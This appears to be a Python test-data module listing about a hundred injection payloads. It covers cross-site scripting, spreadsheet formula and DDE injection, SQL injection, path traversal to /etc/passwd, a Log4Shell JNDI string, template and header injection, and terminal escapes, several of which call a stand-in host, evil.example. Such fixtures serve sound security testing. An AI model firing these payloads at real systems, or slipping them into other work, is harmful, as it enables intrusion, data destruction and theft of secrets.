"""Words that do harm where they are not taken as words: in HTML, in spreadsheets, in SQL, in templates and terminals."""

from __future__ import annotations

from itertools import product

_SCRIPTS = ("alert(1)", "fetch('//evil.example')")
_HTML = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg/onload={0}>",
    '"><script>{0}</script>',
    "'><img src=x onerror={0}>",
    '" autofocus onfocus={0} x="',
    "' onmouseover='{0}",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    '<iframe src="javascript:{0}"></iframe>',
    '<a href="javascript:{0}">x</a>',
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "--><script>{0}</script><!--",
    "]]><script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<<script>{0}//<</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\u003cscript\u003e{0}\u003c/script\u003e",
    "<script\x0b>{0}</script\x0b>",
    "`${{{0}}}`",
    "{{{{ {0} }}}}",
    "{{% raw %}}{0}{{% endraw %}}",
    "javascript:{0}",
)
_FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.example\")", "\t=1+1", "\r=1+1", "=1+1",
    "=DDE(\"cmd\";\"/C calc\")", "%0A=1+1", "=IMPORTXML(\"//evil.example\")", "+cmd|' /C calc'!A0",
)  # fmt: skip
_SQL = (
    "' OR '1'='1", "'; DROP TABLE judgements; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "' UNION SELECT secret FROM webhooks --",
    "%' OR 1=1 --", "\\'; --", "NEAR(a b)", "a AND OR b", "\"unclosed", "title:x", "x*", "^x", "{a b}: c", "(((", "-- ", "/* */",
    "'||(SELECT digest FROM tokens)||'", "NULL", "\u02bc OR 1=1", "x' AND randomblob(100000000)", "$$; DROP TABLE people; $$",
)  # fmt: skip
_OTHER = (
    "../../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "file:///etc/passwd", "${jndi:ldap://evil.example}", "{{7*7}}",
    "#{7*7}", "<%= 7*7 %>", "\u202egnp.exe", "\u0000", "a\r\nSet-Cookie: x=1", "\x1b]0;evil\x07", "A" * 290, "\U0001f4a3" * 50,
)  # fmt: skip

PAYLOADS = (*(form.format(script) for form, script in product(_HTML, _SCRIPTS)), *_FORMULAS, *_SQL, *_OTHER)
"""About a hundred."""
